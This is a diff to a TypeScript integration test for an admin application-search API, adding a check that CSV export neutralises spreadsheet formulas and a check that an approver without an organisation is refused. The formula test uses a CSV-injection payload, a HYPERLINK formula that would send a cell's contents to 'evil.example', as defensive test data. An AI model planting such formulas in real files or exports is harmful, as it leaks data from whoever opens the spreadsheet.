@@ -1,4 +1,6 @@
-import { as, eventually, startStack, type ApiClient, type TestStack } from '../helpers/stack';
+import { createTokenService } from '../../api/auth';
+import { enterpriseBody } from '../helpers/fixtures';
+import { ApiClient, as, eventually, startStack, type TestStack } from '../helpers/stack';
 import { newApplicant, submit } from '../helpers/world';
 
 /** The staff search over all applications: each filter, paging, sorting, the CSV, and who may use it. */
@@ -82,12 +84,32 @@ describe('GET /api/v1/admin/applications', () => {
     expect(row).toMatch(/,专精特新（产品目录）,初审中,[^,]*,,\d+\.\d{2},\d{4}-\d{2}-\d{2} \d{2}:\d{2}$/);
   });
 
+  it('writes a name that a spreadsheet would run as a formula as inert text', async () => {
+    const a = await newApplicant(stack, 'INCLUSIVE');
+    const evil = '=HYPERLINK("http://evil.example/?leak="&A1,"点击")';
+    expect((await a.client.put(`/api/v1/enterprises/${a.code}`, enterpriseBody({ name: evil }))).status).toBe(
+      200,
+    );
+    const id = (await submit(stack, a, 'INCLUSIVE')).body.id as string;
+    const res = await fetch(`${stack.baseUrl}/api/v1/admin/applications?format=csv&creditCode=${a.code}`, {
+      headers: { authorization: `Bearer ${admin.token}` },
+    });
+    const row = (await res.text()).split('\r\n').find((l) => l.startsWith(`${id},`))!;
+    expect(row).toContain(`,"'${evil.replace(/"/g, '""')}",`);
+  });
+
   it('is for administrators, approvers and finance; bad input is a 400 naming the field', async () => {
     expect(
       (await (await as(stack, { role: 'reviewer', org: 'committee' })).get('/api/v1/admin/applications'))
         .status,
     ).toBe(403);
     expect((await (await as(stack, { role: 'finance' })).get('/api/v1/admin/applications')).status).toBe(200);
+    // An approver whose token names no organisation sees nothing of the district (docs/ACCESS.md).
+    const noOrg = await createTokenService(stack.config.auth).sign({
+      subject: 'approver-x',
+      role: 'approver',
+    });
+    expect((await new ApiClient(stack.baseUrl, noOrg).get('/api/v1/admin/applications')).status).toBe(403);
     const bad = await search('status=NOPE&from=2026-13-01&sort=size');
     expect(bad.status).toBe(400);
     expect(bad.body.error.details.map((d: { path: string }) => d.path).sort()).toEqual([
